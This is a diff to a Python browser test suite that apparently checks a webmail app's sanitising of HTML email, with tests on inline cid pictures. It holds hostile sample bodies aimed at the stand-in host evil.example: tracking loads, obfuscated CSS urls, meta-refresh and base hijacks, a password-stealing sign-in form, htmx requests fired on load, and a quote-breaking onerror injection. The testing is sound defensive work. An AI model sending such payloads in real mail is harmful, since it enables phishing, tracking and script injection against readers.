@@ -33,13 +33,14 @@ HTML: Final = {
     '<a href="https://good.example/" ping="https://evil.example/ping">5</a>',
     "pictures": '<img src="https://evil.example/a.png"><img srcset="https://evil.example/b.png 2x">'
     '<picture><source srcset="https://evil.example/c.png"><img src="//evil.example/d.png"></picture>'
-    '<table background="https://evil.example/e.png"><tr><td>x</table><input type=image src="http://evil.example/f">'
+    '<table background="https://evil.example/e.png"><tr><td>x</table>'
+    '<input type=image src="http://evil.example/f">'
     '<video poster="https://evil.example/g.png"></video><audio src="https://evil.example/h" autoplay></audio>'
     '<img src="\thttps://evil.example/i.png"><img src="/message/1/raw"><img src="x.png">',
-    "styles": "<style>@import 'https://evil.example/a.css'; body { background: url(https://evil.example/b) }</style>"
+    "styles": "<style>@import 'https://evil.example/a.css'; p { background: url(//evil.example/b) }</style>"
     '<link rel=stylesheet href="https://evil.example/c.css"><link rel=prefetch href="https://evil.example/d">'
     '<link rel=preconnect href="https://evil.example/"><link rel=dns-prefetch href="//evil.example">'
-    '<p style="background:url(\'https://evil.example/e\')">x</p><p style="background:u\\72l(//evil.example/f)">'
+    "<p style='background:url(https://evil.example/e)'>x</p><p style='background:u\\72l(//evil.example/f)'>"
     "<p style=\"background-image:image-set('https://evil.example/g' 1x)\">x</p>"
     '<p style="position:fixed;inset:0;z-index:9">over everything</p>',
     "leaving": '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">'
@@ -48,9 +49,10 @@ HTML: Final = {
     '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">'
     '<frameset><frame src="https://evil.example/f"></frameset><portal src="https://evil.example/p">'
     f"<div><template shadowrootmode=open><script>{DO}</script></template></div>",
-    "forms": '<form id=f action="https://evil.example/" target=_top><input name=password><button>Sign in</button>'
-    '</form><button form=f formaction="https://evil.example/">x</button><form action="/logout" method=post>',
-    "htmx": '<div hx-get="https://evil.example/" hx-trigger="load" hx-on:load="top.owned=1" data-hx-get="/logout">',
+    "forms": '<form id=f action="https://evil.example/" target=_top><input name=password>'
+    '<button>Sign in</button></form><button form=f formaction="https://evil.example/">x</button><form action="/logout" method=post>',
+    "htmx": '<div hx-get="https://evil.example/" hx-trigger="load" hx-on:load="top.owned=1">'
+    '<div data-hx-post="/logout" data-hx-trigger="load">',
 }
 """HTML bodies by what they try."""
 
@@ -178,15 +180,16 @@ async def test_attachments_run_nothing_when_they_are_opened_alone(visitor: Visit
     for path in ("/message/1/raw", "/message/1", "/thread/1"):
         await look(visitor, path)
     assert seen == Watch([], [], [])
+    visitor.expect("Applying inline style")  # what Chromium itself puts around XML
 
 
 async def test_pictures_inside_a_mail_are_shown_and_only_if_they_are_pictures(visitor: Visitor) -> None:
-    """`cid:` leads to the mail's own raster pictures. An SVG, a page, and a cid that ends its quotes do not."""
+    """`cid:` leads to the mail's own raster pictures; to an SVG, a page, or out of its quotes it does not."""
     seen = await watch(visitor)
     breaking = 'x" onerror="top.owned=1'
     html = (
-        '<img id=good src="cid:good@x"><img id=vector src="cid:vector@x"><img id=page src="cid:page@x">'
-        f"<img id=breaking src='cid:{breaking}'><img id=none src='cid:none'>"
+        '<img alt=good src="cid:good@x"><img alt=vector src="cid:vector@x"><img alt=page src="cid:page@x">'
+        f"<img alt=breaking src='cid:{breaking}'><img alt=none src='cid:none'>"
     )
     parts = [
         attached("good.png", "image/png", PIXEL, cid="good@x"),
@@ -198,9 +201,9 @@ async def test_pictures_inside_a_mail_are_shown_and_only_if_they_are_pictures(vi
     await visitor.sign_in()
     await visitor.open("/message/1")
     frame = visitor.page.frames[1]
-    await frame.wait_for_function("document.querySelector('#good').naturalWidth === 1")
-    for id in ("vector", "page", "none"):
-        assert await frame.evaluate(f"document.querySelector('#{id}')?.naturalWidth ?? 0") == 0, id
+    await frame.wait_for_function("document.images[0].naturalWidth === 1")
+    shown = await frame.evaluate("[...document.images].map(one => [one.alt, one.naturalWidth])")
+    assert [alt for alt, width in shown if width] == ["good"]
     await harmless(visitor.page)
     assert seen == Watch([], [], [])
 
